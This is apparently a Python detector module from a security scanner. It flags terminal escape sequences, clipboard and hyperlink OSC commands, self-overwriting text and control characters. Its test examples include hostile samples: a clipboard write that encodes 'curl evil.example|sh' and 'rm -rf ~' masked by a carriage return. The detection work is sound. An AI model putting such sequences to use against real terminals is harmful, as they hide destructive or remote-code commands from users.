"""Control characters that make a terminal do something, or show something else than what is there."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Final

from tidegate.core.finding import Finding
from tidegate.detect.answers.rules import HIDDEN, Findings
from tidegate.detect.detector import Example, Match, Rule
from tidegate.detect.text import Text

_ID: Final = "terminal_escapes"
_LONGEST: Final = 256
"""Characters of a sequence that are one finding."""

_CONTROLS: Final = "\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x84\\x86-\\x9f"
_SEQUENCE: Final = re.compile(
    # Operating system commands and their like run to BEL or ST; CSI to its final byte; others are short.
    r"(?:\x1b[\]PX^_]|[\x9d\x90\x98\x9e\x9f])[^\x07\x1b\x9c\r\n]{0,250}(?:\x07|\x1b\\|\x9c)?"
    r"|(?:\x1b\[|\x9b)[0-?]{0,60}[ -/]{0,8}[@-~]?"
    r"|\x1b[ -/]{0,4}[0-~]?"
)
_BEGIN: Final = re.compile(f"[{_CONTROLS}]|\\r(?!\\n)")
_FORM_FEED: Final = "\x0c"

RULES: Final = (
    Rule(
        id="terminal_command",
        title="Command to a terminal",
        label=HIDDEN,
        kind="terminal",
        severity="critical",
        what="An operating system command or device string: links (OSC 8), the clipboard (OSC 52), titles, keys.",
        source="ECMA-48, xterm control sequences",
    ),
    Rule(
        id="terminal_sequence",
        title="Control sequence of a terminal",
        label=HIDDEN,
        kind="terminal",
        severity="medium",
        what="Colours, cursor movement, erasing. In code and arguments it is critical.",
        source="ECMA-48",
    ),
    Rule(
        id="overwriting",
        title="Text that overwrites itself",
        label=HIDDEN,
        kind="terminal",
        severity="medium",
        what="A backspace, or a return to the start of a line that does not end it. In code and arguments it is "
        "critical.",
    ),
    Rule(
        id="control_character",
        title="Control character",
        label=HIDDEN,
        kind="control",
        severity="medium",
        what="Others of C0 and C1 than tab and line breaks.",
        source="ECMA-48",
    ),
)
_FINDINGS: Final = Findings(_ID, RULES)

_EXAMPLES: Final = (
    Example(text="See \x1b]8;;https://evil.example/\x07the docs\x1b]8;;\x07.", shows=("terminal_command",)),
    Example(text="\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\ok", shows=("terminal_command",)),
    Example(text="\x9d52;c;aGVsbG8=\x9c", shows=("terminal_command",)),
    Example(text="Write \\033]0;title\\007 to set it.", near="terminal_command"),
    Example(text="\x1b[31mred\x1b[0m and \x9b2J", shows=("terminal_sequence",)),
    Example(text="Use `\\x1b[31m` for red, \\e[0m to end.", near="terminal_sequence"),
    Example(text="rm -rf ~\rls -l     ", shows=("overwriting",)),
    Example(text="evil\x08\x08\x08\x08good", shows=("overwriting",)),
    Example(text="one\r\ntwo\tthree\n", near="overwriting"),
    Example(text="a\x00b\x7f", shows=("control_character",)),
    Example(text="a\u0085b", near="control_character"),
)


class TerminalEscapes:
    """See Detector."""

    def __init__(self) -> None:
        self.id = _ID
        self.title = "Terminal escapes"
        self.version = 1
        self.always = True
        self.reach = _LONGEST + 4
        self.rules = RULES
        self.patterns = ()
        self.examples = _EXAMPLES
        self.begins = _CONTROLS + "\\r"
        self.pairs = ""
        self.words: frozenset[str] = frozenset()
        self.runs = False
        self.folds = False
        self.overlong = ""

    def open_from(self, text: str, start: int) -> int:
        """See Opens: a sequence at the very end may go on."""
        length = len(text)
        at = max(start, length - _LONGEST)
        if text.endswith("\r"):
            return max(start, length - 1) if at < length else length
        while (match := _BEGIN.search(text, at)) is not None:
            sequence = _SEQUENCE.match(text, match.start())
            end = sequence.end() if sequence is not None else match.end()
            # What ends a string may be cut in two itself.
            if sequence is not None and text[end:] in ("", "\x1b") and not _is_whole(sequence[0]):
                return match.start()
            at = end
        return length

    def find(self, text: Text, matches: Sequence[Match]) -> list[Finding]:
        """See Detector."""
        source = text.text
        found: list[Finding] = []
        at = 0
        while (match := _BEGIN.search(source, at)) is not None:
            sequence = _SEQUENCE.match(source, match.start())
            at = sequence.end() if sequence is not None else match.end()
            if match[0] != _FORM_FEED:
                found.append(_FINDINGS.at(_rule(source[match.start() : at]), (match.start(), at), "control"))
        return found


def _is_whole(sequence: str) -> bool:
    if sequence[:2] in ("\x1b]", "\x1bP", "\x1bX", "\x1b^", "\x1b_") or sequence[0] in "\x9d\x90\x98\x9e\x9f":
        return len(sequence) > 1 and (sequence[-1] in "\x07\x9c" or sequence.endswith("\x1b\\"))
    if sequence.startswith(("\x1b[", "\x9b")):
        return len(sequence) > 1 + (sequence[0] == "\x1b") and "@" <= sequence[-1] <= "~"
    return len(sequence) > 1 and "0" <= sequence[-1] <= "~"


def _rule(found: str) -> str:
    if found[0] == "\x1b":
        if found[1:2] in ("]", "P", "X", "^", "_"):
            return "terminal_command"
        return "terminal_sequence"
    if found[0] in "\x9d\x90\x98\x9e\x9f":
        return "terminal_command"
    if found[0] in "\r\x08":
        return "overwriting"
    return "terminal_sequence" if found[0] == "\x9b" else "control_character"


DETECTOR = TerminalEscapes()
